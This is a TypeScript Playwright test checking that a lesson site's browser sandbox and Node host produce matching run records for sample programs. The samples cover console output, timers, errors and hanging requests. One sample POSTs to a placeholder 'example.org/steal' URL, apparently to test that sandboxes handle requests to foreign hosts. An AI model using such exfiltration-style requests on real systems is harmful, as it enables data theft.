/**
 * One runtime, two hosts: the same programs run in the browser's sandbox (through a live example, as a
 * reader runs them) and in the Node host, and their run records agree, times aside.
 */
import { createNodeRunner } from '../src/runner/node/node-host.ts';
import type { RunRecord } from '../src/runner/run-record.ts';
import { expect as baseExpect, liveExample, replaceCode, test } from './fixtures';

const expect = baseExpect.configure({ timeout: 20_000 });

const LESSON = '/lessons/first-request/';
const FIRST = 'Your first GET request';

const PROGRAMS: Record<string, string> = {
  'console methods': [
    "console.log('log', 1, { a: [1, 2] });",
    "console.info('info'); console.warn('warn'); console.error('error'); console.debug('debug');",
    "console.count(); console.count(); console.count('x'); console.countReset(); console.count();",
    "console.group('group'); console.log('inside'); console.groupEnd(); console.log('outside');",
    "console.assert(1 === 2, 'assertion message'); console.assert(true, 'never shown');",
    "console.time('t'); console.timeEnd('t');",
    "console.table([{ a: 1, b: 'x' }]);",
  ].join('\n'),
  'timers left pending': [
    "setTimeout(() => console.log('later'), 50);",
    "const id = setInterval(() => { console.log('tick'); clearInterval(id); }, 10);",
    "console.log('now');",
  ].join('\n'),
  'a foreign host': [
    "try { await fetch('https://example.org/steal', { method: 'POST', body: 'x' }); }",
    'catch (error) { console.log(String(error)); }',
  ].join('\n'),
  'an uncaught error': "console.log('before');\nthrow new TypeError('boom');",
  'a rejected promise':
    "Promise.reject(new RangeError('nobody caught me'));\nconsole.log('after');",
  '/hang with a deadline': [
    'try {',
    "  await fetch('https://api.example.com/hang', { signal: AbortSignal.timeout(300) });",
    '} catch (error) { console.log((error as Error).name); }',
  ].join('\n'),
  '/hang with no deadline': "await fetch('https://api.example.com/hang');",
};

/** What both hosts must agree on: everything but the times. */
function comparable(record: RunRecord) {
  return {
    outcome: record.outcome,
    message: record.message,
    error: record.error,
    console: record.console.map((line) => ({
      ...line,
      text: line.text.replace(/\d+(\.\d+)? ?ms/g, 'N ms'),
    })),
    network: record.network.map(({ startMs, endMs, ...row }) => ({
      ...row,
      ended: endMs !== null && endMs >= startMs,
    })),
  };
}

test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

test('the browser and Node hosts give the same run record for the same programs', async ({
  page,
}) => {
  test.setTimeout(240_000);
  const runner = createNodeRunner();
  try {
    await page.goto(LESSON);
    const first = liveExample(page, FIRST);
    for (const [name, code] of Object.entries(PROGRAMS)) {
      const inNode = await runner.run(code, { clock: 'real' }).done;
      // Every program leaves a trace, so an empty record in both hosts cannot pass for agreement.
      expect(inNode.console.length + inNode.network.length, name).toBeGreaterThan(0);
      await replaceCode(page, first, code);
      await first.region.evaluate((element) => {
        (window as unknown as { previous: unknown }).previous = (
          element as { record?: unknown }
        ).record;
      });
      await first.run.click();
      await expect
        .poll(
          () =>
            first.region.evaluate(
              (element) =>
                (element as { record?: unknown }).record !==
                (window as unknown as { previous: unknown }).previous,
            ),
          { timeout: 30_000 },
        )
        .toBe(true);
      const inBrowser = (await first.region.evaluate(
        (element) => (element as unknown as { record: unknown }).record,
      )) as RunRecord;
      expect(comparable(inBrowser), name).toEqual(comparable(inNode));
      await expect(first.region).toHaveAttribute('data-state', inNode.outcome!);
    }
  } finally {
    runner.dispose();
  }
});
